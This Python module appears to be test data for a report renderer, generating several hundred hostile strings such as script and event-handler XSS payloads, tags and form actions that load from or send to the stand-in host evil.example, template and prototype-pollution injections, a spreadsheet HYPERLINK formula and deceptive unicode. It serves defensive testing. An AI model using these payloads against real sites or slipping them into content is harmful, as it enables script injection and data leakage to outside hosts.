"""More than 500 texts that would like to run, load, style or hide something."""

from __future__ import annotations

from collections.abc import Iterator

from tests.reports.hostile import FRAGMENTS, SURROGATES

CODE = "window.__owned=1"
AWAY = "https://evil.example/x"
_EVENTS = (
    "onload", "onerror", "onclick", "onfocus autofocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin",
    "onpointerenter", "onscroll", "onbeforeprint", "onhashchange",
)  # fmt: skip
_ELEMENTS = (
    "img src=x", "svg", "iframe", "body", "details open", "video src=x", "input", "marquee", "object data=x",
    "audio src=x", "select", "a href=# id=app", "textarea", "math", "embed src=x", "style", "link rel=stylesheet",
)  # fmt: skip
_WHOLE = (
    f"<script>{CODE}</script>", f"<script src={AWAY}></script>", f"<base href={AWAY}>", f"<img src={AWAY}>",
    f"<iframe src='javascript:{CODE}'></iframe>", "<iframe srcdoc='<script>parent.__owned=1</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<link rel=stylesheet href={AWAY}>",
    f"<style>@import '{AWAY}'; * {{ display: none; background: url({AWAY}) }}</style>",
    f"<form action={AWAY}><button autofocus>", f"<object data='{AWAY}'></object>",
    f"<a href='{AWAY}' ping='{AWAY}'>x</a>",
    f"javascript:{CODE}", f"data:text/html,<script>{CODE}</script>", "<template id=index>x</template>",
    '<script type="application/json" id="head">{}</script>', "<div id=app></div>", "<plaintext>", "<noscript>", "<!--",
    "${" + CODE + "}", "{{" + CODE + "}}", "#{" + CODE + "}", "__proto__", "constructor", "hasOwnProperty", "toString",
    '{"__proto__": {"polluted": 1}}', '{"type": "script", "props": {"dangerouslySetInnerHTML": {"__html": "x"}}}',
    "=HYPERLINK(\"https://evil.example\")", "\u202egnp.exe", "\u2066isolated", "a\u0000b", "\ufeff", "\u2028\u2029",
    "e" + "\u0301" * 300, "\U000e0041\U000e0042", "x" * 5000, "\u3164" * 50, "١٢٣", "ﷺ" * 40,
)  # fmt: skip
_BREAKS = ("", '">', "'>", "--></script>", "</title></style></textarea>", "]]>")


def texts() -> tuple[str, ...]:
    """All texts, each once; records hold no half of a pair."""
    return tuple(dict.fromkeys(text for text in _all() if text.strip() and not set(text) & set(SURROGATES)))


def _all() -> Iterator[str]:
    yield from _WHOLE
    yield from FRAGMENTS
    for element in _ELEMENTS:
        for event in _EVENTS:
            yield f"<{element} {event}={CODE}>"
    for text in _WHOLE:
        for start in _BREAKS:
            yield start + text
